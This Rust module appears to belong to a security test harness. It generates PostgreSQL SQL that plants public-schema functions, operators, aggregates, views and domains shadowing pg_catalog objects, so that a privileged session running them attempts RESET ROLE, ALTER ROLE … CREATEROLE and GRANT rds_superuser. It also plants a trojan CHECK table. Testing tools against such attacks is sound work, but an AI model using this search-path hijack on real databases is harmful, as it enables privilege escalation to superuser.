//! The planted set: for every name the census found, objects in `public` that a master session
//! would pick over `pg_catalog`'s — a closer argument match (`name` where the catalog has `text`,
//! `int4` where it has `int8`, exact concrete types where it has variadic, `"any"` or polymorphic
//! arguments) and the exact same signature (which wins wherever `public` comes before
//! `pg_catalog` on the search path, as the owner's `ALTER DATABASE … SET search_path` makes it).
//!
//! Every planted function, aggregate (its final function), operator (its function), view (a
//! one-time filter) and domain (its CHECK) calls one recorder, `public.rds_pg_hostile_hit`: when it
//! runs as anyone but its planter it raises `WARNING rds-pg-hostile-hit: …` (which the server log
//! keeps even when the transaction rolls back), inserts a row into `public.hostile_log` (PUBLIC
//! may insert), and tries what an attacker would: `RESET ROLE` when the session only acts as the
//! planter through `SET ROLE`, then `ALTER ROLE <planter> CREATEROLE CREATEDB` and
//! `GRANT rds_superuser TO <planter>`, each in a block that swallows its error. Then it returns
//! what the catalog's object would have, so the operation that ran it goes on as if nothing
//! happened.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::fmt::Write as _;

use postgres::Client;
use postgres_protocol::escape::{escape_identifier, escape_literal};

use super::census::Census;

/// The concrete types that stand in for polymorphic, `"any"` and variadic arguments.
pub const CONCRETE: &[&str] = &["text", "name", "int4", "int8", "oid", "bool"];

/// A type the catalog uses for polymorphic arguments but no planted variant does: probes of the
/// planted exact polymorphic signatures use it, so that no concrete variant answers instead.
const PROBE_POLYMORPHIC: &str = "float8";

/// At most this many variants of one catalog overload.
const MAX_VARIANTS: usize = 100;

/// A type of `pg_catalog`.
#[derive(Debug, Clone)]
pub struct TypeInfo {
    /// `pg_type.oid`.
    pub oid: u32,
    /// `typname`.
    pub name: String,
    /// `format_type(oid, NULL)`.
    pub display: String,
    /// `typtype`.
    pub typtype: String,
    /// The array type (`typarray`), 0 when none.
    pub array: u32,
}

/// Every type of `pg_catalog`, by oid and by name.
#[derive(Debug, Clone, Default)]
pub struct Types {
    by_oid: HashMap<u32, TypeInfo>,
    by_name: HashMap<String, u32>,
}

impl Types {
    /// Reads `pg_catalog`'s types.
    pub fn load(catalog: &mut Client) -> Types {
        let mut t = Types::default();
        for r in catalog
            .query(
                "SELECT oid, typname::text, format_type(oid, NULL), typtype::text, typarray
                   FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace",
                &[],
            )
            .expect("reading pg_catalog's types")
        {
            let info = TypeInfo {
                oid: r.get(0),
                name: r.get(1),
                display: r.get(2),
                typtype: r.get(3),
                array: r.get(4),
            };
            t.by_name.insert(info.name.clone(), info.oid);
            t.by_oid.insert(info.oid, info);
        }
        t
    }

    fn get(&self, oid: u32) -> &TypeInfo {
        self.by_oid
            .get(&oid)
            .unwrap_or_else(|| panic!("type {oid} is not in pg_catalog"))
    }

    fn oid(&self, name: &str) -> u32 {
        *self
            .by_name
            .get(name)
            .unwrap_or_else(|| panic!("pg_catalog has no type {name}"))
    }

    /// `pg_catalog."text"`: a type named so that no search path matters.
    pub fn sql(&self, oid: u32) -> String {
        format!("pg_catalog.{}", escape_identifier(&self.get(oid).name))
    }

    /// `text`, `name[]`, `"any"`.
    pub fn display(&self, oid: u32) -> &str {
        &self.get(oid).display
    }

    fn class(&self, oid: u32) -> Class {
        let t = self.get(oid);
        match t.name.as_str() {
            "anyelement" | "anynonarray" | "anycompatible" | "anycompatiblenonarray" => {
                Class::Element
            }
            "anyarray" | "anycompatiblearray" => Class::Array,
            "any" => Class::Any,
            "void" => Class::Void,
            _ if t.typtype == "p" => Class::Unsupported,
            _ => Class::Concrete,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    Concrete,
    /// anyelement and its kin: one concrete type per variant.
    Element,
    /// anyarray and its kin: the array of that type.
    Array,
    /// `"any"`: any concrete type, independently per position.
    Any,
    Void,
    Unsupported,
}

/// What a planted object is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum PlantKind {
    /// A plpgsql function.
    Function,
    /// An aggregate (its final function records).
    Aggregate,
    /// An operator (its function records).
    Operator,
    /// A view named like a catalog relation.
    Relation,
    /// A domain named like a catalog type.
    Type,
}

/// One planted object.
#[derive(Debug, Clone)]
pub struct Plant {
    /// Its number, carried by its hit messages.
    pub id: u32,
    /// What it is.
    pub kind: PlantKind,
    /// The catalog name it shadows.
    pub name: String,
    /// Argument types (operators: left then right; a prefix operator has only its right).
    pub args: Vec<u32>,
    /// Whether the last argument is declared `VARIADIC`.
    pub variadic: bool,
    /// Whether it is a prefix operator.
    pub prefix: bool,
    /// The return type (functions, aggregates, operators).
    pub ret: u32,
    /// Whether it returns a set.
    pub setof: bool,
    /// The type each argument is cast to when the catalog's object is called (`None`: as is).
    pub call_casts: Vec<Option<u32>>,
    /// Whether the catalog has an object with exactly this signature (then the plant wins only
    /// where `public` precedes `pg_catalog` on the search path).
    pub duplicates_catalog: bool,
    /// Whether the probe calls it with `float8` for its polymorphic arguments.
    pub polymorphic: bool,
    /// `public.format(text, name, name)`.
    pub signature: String,
    /// A view's columns.
    pub columns: Vec<String>,
}

/// The planted set generated from a census.
#[derive(Debug, Clone, Default)]
pub struct PlantSet {
    /// Every object, in creation order.
    pub plants: Vec<Plant>,
    types: Types,
}

#[derive(Debug, Clone)]
struct Overload {
    name: String,
    kind: String,
    args: Vec<u32>,
    variadic: u32,
    ret: u32,
    retset: bool,
    defaults: usize,
    aggkind: String,
}

impl PlantSet {
    /// Generates the set for `census` from `pg_catalog` as `catalog` (a pinned session) sees it.
    /// `planter` must be able to read each catalog relation a view is planted for.
    pub fn generate(
        catalog: &mut Client,
        census: &Census,
        planter_can_read: &dyn Fn(&str) -> bool,
    ) -> PlantSet {
        let types = Types::load(catalog);
        let mut set = PlantSet {
            plants: Vec::new(),
            types,
        };
        let routine_names: Vec<String> = census
            .functions
            .iter()
            .chain(census.aggregates.iter())
            .cloned()
            .collect();
        let overloads: Vec<Overload> = catalog
            .query(
                "SELECT p.proname::text, p.prokind::text, p.proargtypes::oid[], p.provariadic,
                        p.prorettype, p.proretset, p.pronargdefaults::int4,
                        coalesce(a.aggkind::text, ''),
                        -- Input arguments only (IN and VARIADIC: a variadic function has
                        -- proallargtypes too); OUT, INOUT and TABLE columns are not planted.
                        p.proargmodes IS NULL OR p.proargmodes::text[] <@ ARRAY['i', 'v']
                   FROM pg_proc p LEFT JOIN pg_aggregate a ON a.aggfnoid = p.oid
                  WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname::text = ANY($1)
                  ORDER BY p.proname, p.oid",
                &[&routine_names],
            )
            .expect("reading the census's functions")
            .iter()
            .filter(|r| r.get::<_, bool>(8))
            .map(|r| Overload {
                name: r.get(0),
                kind: r.get(1),
                args: r.get(2),
                variadic: r.get(3),
                ret: r.get(4),
                retset: r.get(5),
                defaults: r.get::<_, i32>(6) as usize,
                aggkind: r.get(7),
            })
            .collect();
        // Every signature the catalog has under these names, whatever we plant.
        let catalog_signatures: BTreeSet<(String, Vec<u32>)> = catalog
            .query(
                "SELECT proname::text, proargtypes::oid[] FROM pg_proc
                  WHERE pronamespace = 'pg_catalog'::regnamespace AND proname::text = ANY($1)",
                &[&routine_names],
            )
            .expect("reading catalog signatures")
            .iter()
            .map(|r| (r.get(0), r.get(1)))
            .collect();
        let mut taken: BTreeSet<(String, Vec<u32>)> = BTreeSet::new();
        for o in &overloads {
            let kind = match (o.kind.as_str(), o.aggkind.as_str()) {
                ("f", _) if census.functions.contains(&o.name) => PlantKind::Function,
                ("a", "n") if census.aggregates.contains(&o.name) => PlantKind::Aggregate,
                _ => continue,
            };
            for v in set.variants_of(o, kind) {
                let key = (o.name.clone(), v.args.clone());
                if !taken.insert(key.clone()) {
                    continue;
                }
                let duplicates_catalog = catalog_signatures.contains(&key);
                set.push(Plant {
                    kind,
                    duplicates_catalog,
                    ..v
                });
            }
        }

        let operator_names: Vec<String> = census.operators.iter().cloned().collect();
        let operators: Vec<(String, String, u32, u32, u32)> = catalog
            .query(
                "SELECT oprname::text, oprkind::text, oprleft, oprright, oprresult FROM pg_operator
                  WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprname::text = ANY($1)
                  ORDER BY oprname, oid",
                &[&operator_names],
            )
            .expect("reading the census's operators")
            .iter()
            .map(|r| (r.get(0), r.get(1), r.get(2), r.get(3), r.get(4)))
            .collect();
        let catalog_operators: BTreeSet<(String, Vec<u32>)> = operators
            .iter()
            .map(|(n, _, l, r, _)| {
                (
                    n.clone(),
                    [*l, *r].into_iter().filter(|t| *t != 0).collect(),
                )
            })
            .collect();
        let mut taken: BTreeSet<(String, Vec<u32>)> = BTreeSet::new();
        for (name, kind, left, right, result) in &operators {
            let prefix = match kind.as_str() {
                "b" => false,
                "l" => true,
                _ => continue,
            };
            let o = Overload {
                name: name.clone(),
                kind: "o".into(),
                args: if prefix {
                    vec![*right]
                } else {
                    vec![*left, *right]
                },
                variadic: 0,
                ret: *result,
                retset: false,
                defaults: 0,
                aggkind: String::new(),
            };
            for v in set.variants_of(&o, PlantKind::Operator) {
                let key = (name.clone(), v.args.clone());
                if !taken.insert(key.clone()) {
                    continue;
                }
                let duplicates_catalog = catalog_operators.contains(&key);
                set.push(Plant {
                    kind: PlantKind::Operator,
                    prefix,
                    duplicates_catalog,
                    ..v
                });
            }
        }

        for rel in &census.relations {
            if !planter_can_read(rel) {
                continue;
            }
            // A view cannot have a pseudo-typed column (pg_attribute.attmissingval is anyarray).
            let columns: Vec<String> = catalog
                .query(
                    "SELECT a.attname::text FROM pg_attribute a JOIN pg_type t ON t.oid = a.atttypid
                      WHERE a.attrelid = ('pg_catalog.' || quote_ident($1))::regclass
                        AND a.attnum > 0 AND NOT a.attisdropped AND t.typtype <> 'p'
                      ORDER BY a.attnum",
                    &[rel],
                )
                .expect("reading a catalog relation's columns")
                .iter()
                .map(|r| r.get(0))
                .collect();
            set.push(Plant {
                columns,
                id: 0,
                kind: PlantKind::Relation,
                name: rel.clone(),
                args: Vec::new(),
                variadic: false,
                prefix: false,
                ret: 0,
                setof: false,
                call_casts: Vec::new(),
                duplicates_catalog: true,
                polymorphic: false,
                signature: format!("public.{rel} (view)"),
            });
        }
        for t in &census.types {
            let oid = set.types.oid(t);
            if set.types.get(oid).typtype != "b" {
                continue;
            }
            set.push(Plant {
                id: 0,
                kind: PlantKind::Type,
                name: t.clone(),
                args: vec![oid],
                variadic: false,
                prefix: false,
                ret: 0,
                setof: false,
                call_casts: Vec::new(),
                duplicates_catalog: true,
                polymorphic: false,
                signature: format!("public.{t} (domain)"),
                columns: Vec::new(),
            });
        }
        set
    }

    fn push(&mut self, mut plant: Plant) {
        if !kind_selected(plant.kind) {
            return;
        }
        plant.id = self.plants.len() as u32 + 1;
        self.plants.push(plant);
    }

    /// The variants planted for one catalog overload (ids, kinds and duplicate flags unset).
    fn variants_of(&self, o: &Overload, kind: PlantKind) -> Vec<Plant> {
        let t = &self.types;
        let (fixed, variadic_elem) = if o.variadic != 0 {
            (&o.args[..o.args.len() - 1], Some(o.variadic))
        } else {
            (&o.args[..], None)
        };
        if kind == PlantKind::Aggregate && variadic_elem.is_some() {
            return Vec::new();
        }
        let ret_class = t.class(o.ret);
        let ret_ok = match ret_class {
            Class::Unsupported | Class::Any => false,
            Class::Void => kind == PlantKind::Function && !o.retset,
            _ => true,
        };
        if !ret_ok || fixed.iter().any(|a| t.class(*a) == Class::Unsupported) {
            return Vec::new();
        }
        if let Some(e) = variadic_elem {
            if t.class(e) == Class::Unsupported || t.class(e) == Class::Array {
                return Vec::new();
            }
        }
        let polymorphic = fixed
            .iter()
            .chain(variadic_elem.iter())
            .any(|a| matches!(t.class(*a), Class::Element | Class::Array))
            || matches!(ret_class, Class::Element | Class::Array);
        if matches!(ret_class, Class::Element | Class::Array)
            && !fixed
                .iter()
                .chain(variadic_elem.iter())
                .any(|a| matches!(t.class(*a), Class::Element | Class::Array))
        {
            return Vec::new();
        }

        let mut out: Vec<Plant> = Vec::new();
        // Shorter argument lists where the catalog has defaults.
        let arities: Vec<usize> = if variadic_elem.is_none() && o.defaults > 0 {
            (fixed.len() - o.defaults.min(fixed.len())..=fixed.len()).collect()
        } else {
            vec![fixed.len()]
        };
        let has_any = fixed
            .iter()
            .chain(variadic_elem.iter())
            .any(|a| t.class(*a) == Class::Any);
        let elements: Vec<Option<u32>> = if polymorphic || has_any {
            CONCRETE.iter().map(|n| Some(t.oid(n))).collect()
        } else {
            vec![None]
        };
        for &arity in &arities {
            let fixed = &fixed[..arity];
            for &element in &elements {
                // Options per fixed position.
                let any_count = fixed.iter().filter(|a| t.class(**a) == Class::Any).count();
                let positions: Vec<Vec<(u32, Option<u32>)>> = fixed
                    .iter()
                    .map(|&a| self.options(a, element, any_count <= 2))
                    .collect();
                let variadic_counts: &[usize] = if variadic_elem.is_some() {
                    &[1, 2, 3]
                } else {
                    &[0]
                };
                for &k in variadic_counts {
                    let mut pos = positions.clone();
                    if let Some(e) = variadic_elem {
                        for _ in 0..k {
                            pos.push(self.options(e, element, k <= 2));
                        }
                    }
                    for combo in cross(&pos, MAX_VARIANTS) {
                        let args: Vec<u32> = combo.iter().map(|(a, _)| *a).collect();
                        let casts: Vec<Option<u32>> = combo.iter().map(|(_, c)| *c).collect();
                        let ret = match ret_class {
                            Class::Element => element.unwrap(),
                            Class::Array => t.get(element.unwrap()).array,
                            _ => o.ret,
                        };
                        if ret == 0 {
                            continue;
                        }
                        out.push(self.plant(o, kind, args, casts, false, ret, false));
                    }
                }
            }
            // The exact signature: concrete types as they are (already among the variants when
            // the overload has no polymorphic argument), polymorphic ones as declared, and a
            // variadic array as VARIADIC.
            if kind != PlantKind::Aggregate || !polymorphic {
                let exact_fixed: Vec<u32> = fixed.to_vec();
                let any_in_fixed = exact_fixed.iter().any(|a| t.class(*a) == Class::Any);
                match variadic_elem {
                    None if polymorphic && !any_in_fixed => {
                        let casts = vec![None; exact_fixed.len()];
                        out.push(self.plant(o, kind, exact_fixed, casts, false, o.ret, true));
                    }
                    Some(e) if t.class(e) == Class::Concrete && !any_in_fixed && !polymorphic => {
                        let mut args = exact_fixed;
                        args.push(*o.args.last().unwrap());
                        let casts = vec![None; args.len()];
                        out.push(self.plant(o, kind, args, casts, true, o.ret, false));
                    }
                    _ => {}
                }
            }
        }
        out
    }

    /// The types a planted argument may have where the catalog has `a`, each with the type to
    /// cast it to when calling the catalog's object.
    fn options(&self, a: u32, element: Option<u32>, every_any: bool) -> Vec<(u32, Option<u32>)> {
        let t = &self.types;
        match t.class(a) {
            Class::Concrete => {
                let mut v = vec![(a, Some(a))];
                match t.get(a).name.as_str() {
                    "text" => v.push((t.oid("name"), Some(a))),
                    "int8" => v.push((t.oid("int4"), Some(a))),
                    _ => {}
                }
                v
            }
            Class::Element => vec![(element.expect("polymorphic"), None)],
            Class::Array => vec![(t.get(element.expect("polymorphic")).array, None)],
            Class::Any if every_any => CONCRETE.iter().map(|n| (t.oid(n), None)).collect(),
            Class::Any => vec![(element.unwrap_or_else(|| t.oid("text")), None)],
            Class::Void | Class::Unsupported => Vec::new(),
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn plant(
        &self,
        o: &Overload,
        kind: PlantKind,
        args: Vec<u32>,
        call_casts: Vec<Option<u32>>,
        variadic: bool,
        ret: u32,
        polymorphic: bool,
    ) -> Plant {
        let t = &self.types;
        let shown: Vec<String> = args
            .iter()
            .enumerate()
            .map(|(i, a)| {
                let v = if variadic && i + 1 == args.len() {
                    "VARIADIC "
                } else {
                    ""
                };
                format!("{v}{}", t.display(*a))
            })
            .collect();
        let signature = match kind {
            PlantKind::Operator if args.len() == 1 => {
                format!("public.{}(NONE, {})", o.name, shown[0])
            }
            PlantKind::Aggregate if args.is_empty() => format!("public.{}(*)", o.name),
            _ => format!("public.{}({})", o.name, shown.join(", ")),
        };
        Plant {
            id: 0,
            kind,
            name: o.name.clone(),
            args,
            variadic,
            prefix: false,
            ret,
            setof: o.retset,
            call_casts,
            duplicates_catalog: false,
            polymorphic,
            signature,
            columns: Vec::new(),
        }
    }

    /// How many objects of each kind.
    pub fn counts(&self) -> BTreeMap<PlantKind, usize> {
        let mut m = BTreeMap::new();
        for p in &self.plants {
            *m.entry(p.kind).or_insert(0) += 1;
        }
        m
    }

    /// The plant with `id`.
    pub fn get(&self, id: u32) -> Option<&Plant> {
        self.plants.get((id as usize).checked_sub(1)?)
    }

    /// The SQL that `planter` runs to plant the set in the current database's `public`. With
    /// `own_database`, also what only the database's owner can do: open `public` to PUBLIC (name
    /// lookup skips schemas without USAGE), put `public` first on the database's search path,
    /// and a table whose CHECK runs a function of the planter on every row restored into it.
    pub fn sql(&self, planter: &str, database: &str, own_database: bool) -> String {
        let t = &self.types;
        let planter_lit = escape_literal(planter);
        let planter_id = escape_identifier(planter);
        let mut s = String::new();
        s.push_str("SET search_path = pg_catalog, pg_temp;\n");
        if own_database {
            s.push_str("GRANT USAGE ON SCHEMA public TO PUBLIC;\n");
        }
        let _ = write!(
            s,
            "CREATE TABLE public.hostile_log (
                 at timestamptz NOT NULL DEFAULT pg_catalog.now(),
                 who text NOT NULL, session_who text NOT NULL, what text NOT NULL, db text NOT NULL);
             GRANT INSERT ON public.hostile_log TO PUBLIC;
             CREATE FUNCTION public.rds_pg_hostile_hit(id pg_catalog.int4, what pg_catalog.text)
             RETURNS pg_catalog.bool LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp
             AS $rds_pg_hit$
             DECLARE
               guc pg_catalog.text := 'rds_pg_hostile.hit' OPERATOR(pg_catalog.||) id::pg_catalog.text;
               cu pg_catalog.text := current_user;
               su pg_catalog.text := session_user;
             BEGIN
               IF cu = {planter_lit} AND su = {planter_lit} THEN RETURN true; END IF;
               IF pg_catalog.current_setting(guc, true) IS NOT DISTINCT FROM 'y' THEN RETURN true; END IF;
               PERFORM pg_catalog.set_config(guc, 'y', true);
               RAISE WARNING 'rds-pg-hostile-hit: % ran % [#% planted by % in %; session user %]',
                 cu, what, id, {planter_lit}, pg_catalog.current_database(), su;
               BEGIN
                 INSERT INTO public.hostile_log (who, session_who, what, db)
                 VALUES (cu, su, what, pg_catalog.current_database());
               EXCEPTION WHEN OTHERS THEN NULL;
               END;
               IF cu = {planter_lit} THEN
                 -- The session only acts as the planter (SET ROLE): that is no boundary.
                 BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
               END IF;
               BEGIN EXECUTE 'ALTER ROLE ' || {planter_id_lit} || ' CREATEROLE CREATEDB';
               EXCEPTION WHEN OTHERS THEN NULL; END;
               BEGIN EXECUTE 'GRANT rds_superuser TO ' || {planter_id_lit};
               EXCEPTION WHEN OTHERS THEN NULL; END;
               IF cu = {planter_lit} THEN
                 BEGIN EXECUTE 'SET ROLE ' || {planter_id_lit}; EXCEPTION WHEN OTHERS THEN NULL; END;
               END IF;
               RETURN true;
             END
             $rds_pg_hit$;\n",
            planter_id_lit = escape_literal(&planter_id),
        );
        for p in &self.plants {
            // The setting is checked inline first: once recorded in a transaction, a plant
            // costs one lookup (catalog joins call a planted `=` for every pair of rows).
            let hit = format!(
                "IF pg_catalog.current_setting('rds_pg_hostile.hit{id}', true) \
                 IS DISTINCT FROM 'y' THEN PERFORM public.rds_pg_hostile_hit({id}, {}); END IF;",
                escape_literal(&format!("{} in {database}", p.signature)),
                id = p.id,
            );
            let arg_list = |args: &[u32], variadic: bool| -> String {
                args.iter()
                    .enumerate()
                    .map(|(i, a)| {
                        let v = if variadic && i + 1 == args.len() {
                            "VARIADIC "
                        } else {
                            ""
                        };
                        format!("{v}{}", t.sql(*a))
                    })
                    .collect::<Vec<_>>()
                    .join(", ")
            };
            let call_arg = |i: usize| -> String {
                match p.call_casts.get(i).copied().flatten() {
                    Some(c) => format!("${}::{}", i + 1, t.sql(c)),
                    None => format!("${}", i + 1),
                }
            };
            let qname = escape_identifier(&p.name);
            match p.kind {
                PlantKind::Function => {
                    let mut call_args: Vec<String> = (0..p.args.len()).map(call_arg).collect();
                    if p.variadic {
                        let last = call_args.pop().unwrap();
                        call_args.push(format!("VARIADIC {last}"));
                    }
                    let call = format!("pg_catalog.{qname}({})", call_args.join(", "));
                    let ret = if t.class(p.ret) == Class::Void {
                        "void".to_owned()
                    } else {
                        t.sql(p.ret)
                    };
                    let body = if t.class(p.ret) == Class::Void {
                        format!("PERFORM {call}; RETURN;")
                    } else if p.setof {
                        format!("RETURN QUERY SELECT {call};")
                    } else {
                        format!("RETURN {call};")
                    };
                    let _ = writeln!(
                        s,
                        "CREATE FUNCTION public.{qname}({}) RETURNS {}{ret} LANGUAGE plpgsql \
                         VOLATILE SET search_path = pg_catalog, pg_temp AS $rds_pg_plant$ \
                         BEGIN {hit} {body} END $rds_pg_plant$;",
                        arg_list(&p.args, p.variadic),
                        if p.setof { "SETOF " } else { "" },
                    );
                }
                PlantKind::Aggregate => {
                    let id = p.id;
                    let state_args: String =
                        p.args.iter().map(|a| format!(", {}", t.sql(*a))).collect();
                    let as_text: Vec<String> = (0..p.args.len())
                        .map(|i| format!("${}::pg_catalog.text", i + 2))
                        .collect();
                    let _ = writeln!(
                        s,
                        "CREATE FUNCTION public.rds_pg_sfunc_{id}(pg_catalog.jsonb{state_args}) \
                         RETURNS pg_catalog.jsonb LANGUAGE sql VOLATILE \
                         SET search_path = pg_catalog, pg_temp AS $rds_pg_plant$ \
                         SELECT $1 OPERATOR(pg_catalog.||) pg_catalog.jsonb_build_array(\
                         pg_catalog.jsonb_build_array({})) $rds_pg_plant$;",
                        as_text.join(", ")
                    );
                    let inner = if p.args.is_empty() {
                        "*".to_owned()
                    } else {
                        let values: Vec<String> = (0..p.args.len())
                            .map(|i| {
                                let to =
                                    p.call_casts.get(i).copied().flatten().unwrap_or(p.args[i]);
                                format!("(j.e OPERATOR(pg_catalog.->>) {i})::{}", t.sql(to))
                            })
                            .collect();
                        format!("{} ORDER BY j.n", values.join(", "))
                    };
                    let ret = t.sql(p.ret);
                    let _ = writeln!(
                        s,
                        "CREATE FUNCTION public.rds_pg_ffunc_{id}(pg_catalog.jsonb) RETURNS {ret} \
                         LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp \
                         AS $rds_pg_plant$ DECLARE result {ret}; BEGIN {hit} \
                         SELECT pg_catalog.{qname}({inner}) INTO result \
                         FROM pg_catalog.jsonb_array_elements($1) WITH ORDINALITY AS j(e, n); \
                         RETURN result; END $rds_pg_plant$;"
                    );
                    let args = if p.args.is_empty() {
                        "*".to_owned()
                    } else {
                        arg_list(&p.args, false)
                    };
                    let _ = writeln!(
                        s,
                        "CREATE AGGREGATE public.{qname}({args}) (SFUNC = public.rds_pg_sfunc_{id}, \
                         STYPE = pg_catalog.jsonb, INITCOND = '[]', \
                         FINALFUNC = public.rds_pg_ffunc_{id});"
                    );
                }
                PlantKind::Operator => {
                    let id = p.id;
                    let op = &p.name;
                    let ret = t.sql(p.ret);
                    let expr = if p.prefix {
                        format!("OPERATOR(pg_catalog.{op}) ({})", call_arg(0))
                    } else {
                        format!(
                            "({}) OPERATOR(pg_catalog.{op}) ({})",
                            call_arg(0),
                            call_arg(1)
                        )
                    };
                    let _ = writeln!(
                        s,
                        "CREATE FUNCTION public.rds_pg_op_{id}({}) RETURNS {ret} LANGUAGE plpgsql \
                         VOLATILE SET search_path = pg_catalog, pg_temp AS $rds_pg_plant$ \
                         BEGIN {hit} RETURN {expr}; END $rds_pg_plant$;",
                        arg_list(&p.args, false)
                    );
                    let sides = if p.prefix {
                        format!("RIGHTARG = {}", t.sql(p.args[0]))
                    } else {
                        format!(
                            "LEFTARG = {}, RIGHTARG = {}",
                            t.sql(p.args[0]),
                            t.sql(p.args[1])
                        )
                    };
                    let _ = writeln!(
                        s,
                        "CREATE OPERATOR public.{op} ({sides}, FUNCTION = public.rds_pg_op_{id});"
                    );
                }
                PlantKind::Relation => {
                    let rel = escape_identifier(&p.name);
                    let what = escape_literal(&format!("{} in {database}", p.signature));
                    let columns: Vec<String> =
                        p.columns.iter().map(|c| escape_identifier(c)).collect();
                    let _ = writeln!(
                        s,
                        "CREATE VIEW public.{rel} AS SELECT {} FROM pg_catalog.{rel} \
                         WHERE (SELECT public.rds_pg_hostile_hit({}, {what}));\n\
                         GRANT SELECT ON public.{rel} TO PUBLIC;",
                        columns.join(", "),
                        p.id
                    );
                }
                PlantKind::Type => {}
            }
        }
        // Domains last: from here on a bare `text` in this database means public.text.
        for p in self.plants.iter().filter(|p| p.kind == PlantKind::Type) {
            let what = escape_literal(&format!("{} in {database}", p.signature));
            let _ = writeln!(
                s,
                "CREATE DOMAIN public.{} AS {} CHECK (\
                 pg_catalog.current_setting('rds_pg_hostile.hit{id}', true) \
                 IS NOT DISTINCT FROM 'y' OR public.rds_pg_hostile_hit({id}, {what}));",
                escape_identifier(&p.name),
                t.sql(p.args[0]),
                id = p.id
            );
        }
        if own_database {
            let _ = write!(
                s,
                "CREATE FUNCTION public.rds_pg_trojan(v pg_catalog.text) RETURNS pg_catalog.bool
                 LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $rds_pg_plant$
                 BEGIN RETURN public.rds_pg_hostile_hit(0, {what}); END $rds_pg_plant$;
                 CREATE TABLE public.hostile_data (
                     id pg_catalog.int4 PRIMARY KEY,
                     v pg_catalog.text CHECK (public.rds_pg_trojan(v)));
                 INSERT INTO public.hostile_data
                     SELECT g, 'row ' OPERATOR(pg_catalog.||) g::pg_catalog.text
                       FROM pg_catalog.generate_series(1, 20) AS g;
                 ALTER DATABASE {db} SET search_path = public, pg_catalog;
                 ALTER ROLE {planter_id} SET search_path = public, pg_catalog;\n",
                what = escape_literal(&format!(
                    "public.hostile_data CHECK (a row of an archive) in {database}"
                )),
                db = escape_identifier(database),
            );
        }
        s
    }

    /// A `DO` block that calls every plant of `kinds` by its bare name with arguments of its
    /// exact types, each in a block that swallows errors. Run by an unpinned master session
    /// inside a transaction that is rolled back, it proves the plants capture.
    pub fn probe_sql(&self, plants: &[&Plant]) -> String {
        let t = &self.types;
        let float8 = t.oid(PROBE_POLYMORPHIC);
        let value = |p: &Plant, a: u32| -> String {
            let a = if p.polymorphic {
                match t.class(a) {
                    Class::Element => float8,
                    Class::Array => t.get(float8).array,
                    _ => a,
                }
            } else {
                a
            };
            format!("NULL::{}", t.sql(a))
        };
        let mut s = String::from("DO $rds_pg_probe$ BEGIN\n");
        for p in plants {
            let qname = escape_identifier(&p.name);
            let expr = match p.kind {
                PlantKind::Function | PlantKind::Aggregate => {
                    let mut args: Vec<String> = p.args.iter().map(|a| value(p, *a)).collect();
                    if p.variadic {
                        let last = args.pop().unwrap();
                        args.push(format!("VARIADIC {last}"));
                    }
                    if p.kind == PlantKind::Aggregate && args.is_empty() {
                        args.push("*".into());
                    }
                    format!("{qname}({})", args.join(", "))
                }
                PlantKind::Operator if p.prefix => {
                    format!("{} ({})", p.name, value(p, p.args[0]))
                }
                PlantKind::Operator => format!(
                    "({}) {} ({})",
                    value(p, p.args[0]),
                    p.name,
                    value(p, p.args[1])
                ),
                PlantKind::Relation => format!("1 FROM {qname}"),
                PlantKind::Type => format!("NULL::{qname}"),
            };
            let _ = writeln!(
                s,
                "BEGIN PERFORM {expr}; EXCEPTION WHEN OTHERS THEN NULL; END;"
            );
        }
        s.push_str("END $rds_pg_probe$;");
        s
    }
}

/// Whether `RDS_PG_HOSTILE_PLANTS` (a comma-separated list of `function`, `aggregate`,
/// `operator`, `relation`, `type`; default: all) selects plants of `kind`. Narrowing it helps to
/// see, on code that is still vulnerable, which attacks a crash caused by another kind (a
/// planted domain makes rds-pg fail to decode a column) would otherwise hide.
pub fn kind_selected(kind: PlantKind) -> bool {
    let Ok(list) = std::env::var("RDS_PG_HOSTILE_PLANTS") else {
        return true;
    };
    let name = match kind {
        PlantKind::Function => "function",
        PlantKind::Aggregate => "aggregate",
        PlantKind::Operator => "operator",
        PlantKind::Relation => "relation",
        PlantKind::Type => "type",
    };
    list.trim().is_empty() || list.split(',').any(|k| k.trim() == name)
}

/// The cross product of `positions`, at most `limit` combinations (the first option of each
/// position first).
fn cross<T: Clone>(positions: &[Vec<T>], limit: usize) -> Vec<Vec<T>> {
    let mut out: Vec<Vec<T>> = vec![Vec::new()];
    for options in positions {
        if options.is_empty() {
            return Vec::new();
        }
        let mut next = Vec::new();
        'outer: for prefix in &out {
            for o in options {
                if next.len() >= limit {
                    break 'outer;
                }
                let mut v = prefix.clone();
                v.push(o.clone());
                next.push(v);
            }
        }
        out = next;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::cross;

    #[test]
    fn cross_product_in_order_and_bounded() {
        let c = cross(&[vec![1, 2], vec![3, 4]], 10);
        assert_eq!(c, vec![vec![1, 3], vec![1, 4], vec![2, 3], vec![2, 4]]);
        assert_eq!(cross(&[vec![1, 2], vec![3, 4]], 3).len(), 3);
        assert!(cross::<i32>(&[vec![1], vec![]], 10).is_empty());
        assert_eq!(cross::<i32>(&[], 10), vec![Vec::<i32>::new()]);
    }
}
